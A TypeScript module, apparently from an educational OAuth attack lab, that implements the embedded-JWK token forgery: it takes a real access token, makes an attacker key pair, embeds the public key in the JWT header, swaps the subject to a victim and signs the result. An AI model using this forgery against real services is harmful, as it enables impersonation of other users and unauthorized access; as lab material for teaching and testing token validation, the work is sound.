import { patched, readToken } from '@/lib/attack-lab/forge';
import { mallorysKeyPair, signedToken } from '@/lib/attack-lab/mallory-keys';
import { ok } from '@/lib/oauth-client/result';
import { EMBEDDED_JWK_STEPS } from './embedded-jwk.steps';
import { forgeFailed, VICTIM, VICTIM_NAME } from './mallory';
import { tokenForgeryMachine, type Forger } from './token-forgery';

/** RFC 7515 §4.1.3, RFC 8725 §3.10: Mallory signs with a key pair she just made and embeds its public half as `jwk`. */
export const forgeEmbeddedJwk: Forger = async ({ step, own }) => {
  const read = readToken(own.tokens.access_token);
  if (!read.ok) return forgeFailed(step, read.message);
  const mine = await mallorysKeyPair();
  const header = patched(read.value.header, { alg: 'ES256', kid: mine.publicJwk.kid, jwk: mine.publicJwk });
  const token = await signedToken({ header, payload: patched(read.value.payload, { sub: VICTIM }) }, mine.privateKey);
  const facts = [
    { label: 'Her key pair', value: `ES256 (P-256), made in this browser; kid ${String(mine.publicJwk.kid)} (its RFC 7638 thumbprint)` },
    { label: 'Header jwk', value: JSON.stringify(mine.publicJwk) },
    { label: 'Claim sub', value: `${String(read.value.payload.sub)} → ${VICTIM}` },
  ];
  return {
    step,
    exchanges: [],
    facts,
    result: ok({
      token,
      victim: VICTIM,
      victimName: VICTIM_NAME,
      sent: 'the token signed with her own key, its public half in the jwk header',
    }),
  };
};

export const embeddedJwkMachine = tokenForgeryMachine('embeddedJwk', EMBEDDED_JWK_STEPS, forgeEmbeddedJwk);
